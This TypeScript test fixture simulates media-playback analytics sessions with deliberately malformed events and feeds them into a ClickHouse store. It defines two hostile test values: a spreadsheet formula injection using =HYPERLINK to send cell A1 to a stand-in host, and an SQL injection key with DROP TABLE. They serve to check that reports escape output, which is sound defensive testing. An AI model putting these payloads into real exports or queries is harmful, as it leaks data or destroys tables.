import type { CollectionEvent } from '@playhead/protocol'
import { createRandom } from '../simulator/random.ts'
import { simulateSession } from '../simulator/session.ts'
import { type SessionRows, sessionRows } from 'playhead/src/projection/archive/sessionRows.ts'
import { fingerprintOf, normalise } from 'playhead/src/events/normalise.ts'
import { sidFloor } from 'playhead/src/events/sessionId.ts'
import { startReplay } from '@playhead/engine'
import type { Store } from 'playhead/src/clickhouse/store.ts'
import { rules } from './script.ts'

/** The clocks of Berlin go back on 25 October 2026. */
export const firstDayMs = Date.parse('2026-10-23T00:00:00Z')
export const days = 5

/** The rows of simulated sessions over five days, with all the warnings that reports have to cope with. */
export function simulatedSessions(count: number): SessionRows[] {
  const random = createRandom('reports')
  return Array.from({ length: count }, (_, nth) => {
    const startMs = firstDayMs + random.whole(0, days * 86_400_000 - 1)
    const { bodies } = simulateSession(`report ${nth % Math.ceil(count * 0.8)}`, { startMs })
    const sid = `${sidFloor(startMs)}${String(nth).padStart(52, '0')}`
    const replay = startReplay(sid, { ...rules, reorderWindowMs: 5000 })
    for (const [index, { atMs, body }] of bodies.entries()) {
      const seq = nth * 10_000 + index + 2
      const sent = odd(body, nth)
      replay.take(
        normalise({ seq, receivedAtMs: atMs, fingerprint: fingerprintOf(JSON.stringify(sent)) }, sent),
      )
    }
    const replayed = replay.end(nth % 23 === 0)
    if (replayed === undefined) throw new Error('the start was not taken')
    return sessionRows(replayed)
  })
}

export async function insertSessions(store: Store, sessions: readonly SessionRows[]): Promise<void> {
  await store.insert(
    'ads',
    sessions.flatMap(({ ads }) => ads),
    'ads',
  )
  await store.insert(
    'chapters',
    sessions.flatMap(({ chapters }) => chapters),
    'chapters',
  )
  // An older version of each, which no report may see.
  const older = sessions.map(({ session }) => ({
    ...session,
    version: 0,
    pause_events: 999,
    closed_at: null,
  }))
  const newer = sessions.map(({ session }) => ({ ...session, version: 1 }))
  await store.insert('sessions', older, 'older')
  await store.insert('sessions', newer, 'newer')
}

/** Names that mean something to SQL, to CSV and to spreadsheets. */
export const hostileName = `=HYPERLINK("http://x.example?a"&A1), 'q' \\ \t\n;`
export const hostileKey = "k'; DROP TABLE `sessions` \\ {x:String} --"

function odd(sent: CollectionEvent, nth: number): object {
  const body = withoutQuality(nth % 11 === 5 ? aheadOfTime(sent) : sent, nth)
  const { params = {}, customMetadata = {} } = body as {
    params?: Record<string, unknown>
    customMetadata?: Record<string, string>
  }
  if (sent.eventType === 'adStart' && nth % 19 === 0)
    return { ...body, params: { ...params, 'media.ad.id': '' } }
  if (/^state(Start|End)$/.test(sent.eventType)) {
    const name = String(params['media.state.name'])
    return { ...body, params: { ...params, 'media.state.name': nth % 4 === 0 ? name.toUpperCase() : name } }
  }
  if (sent.eventType !== 'sessionStart') return body
  const { 'media.contentType': contentType, ...others } = params
  return {
    ...body,
    params: {
      ...others,
      ...(nth % 10 !== 0 && {
        'media.contentType': nth % 3 === 0 ? String(contentType).toUpperCase() : contentType,
      }),
      ...(nth % 29 === 0 && { 'media.contentType': nth % 2 === 0 ? 'Trailer' : 'TRAILER' }),
      ...(nth % 37 === 0 && { 'media.contentType': nth % 2 === 0 ? '' : ' \t' }),
      ...(nth % 6 === 0 && { 'media.streamType': 'Audio' }),
      ...(nth % 41 === 0 && { 'media.streamType': nth % 2 === 0 ? 'Holo' : 'HOLO' }),
      ...(nth % 10 === 0 && { 'media.genre': 'Drama, Crime,Drama' }),
      ...(nth % 7 === 0 && { 'analytics.reportSuite': 'suite-b' }),
      ...(nth % 13 === 0 && { 'media.name': hostileName }),
      ...(nth % 17 === 0 && { 'media.id': '' }),
      ...(nth % 5 === 0 && { 'media.show': '', 'media.pass.auth': 'TRUE' }),
    },
    customMetadata: { ...customMetadata, ...(nth % 4 === 0 && { [hostileKey]: `v${nth % 3}`, team: 'red' }) },
  }
}

/** By a clock that is ten minutes fast. */
function aheadOfTime(body: CollectionEvent): CollectionEvent {
  return { ...body, playerTime: { ...body.playerTime, ts: body.playerTime.ts + 600_000 } }
}

/** Not every player measures how well it plays, or all of it. */
function withoutQuality(body: CollectionEvent, nth: number): CollectionEvent {
  if (!('qoeData' in body)) return body
  const { qoeData, ...others } = body
  if (nth % 11 === 0) return others
  if (nth % 5 !== 0) return body
  const { 'media.qoe.timeToStart': _, ...measured } = qoeData as Record<string, unknown>
  return { ...others, qoeData: measured }
}
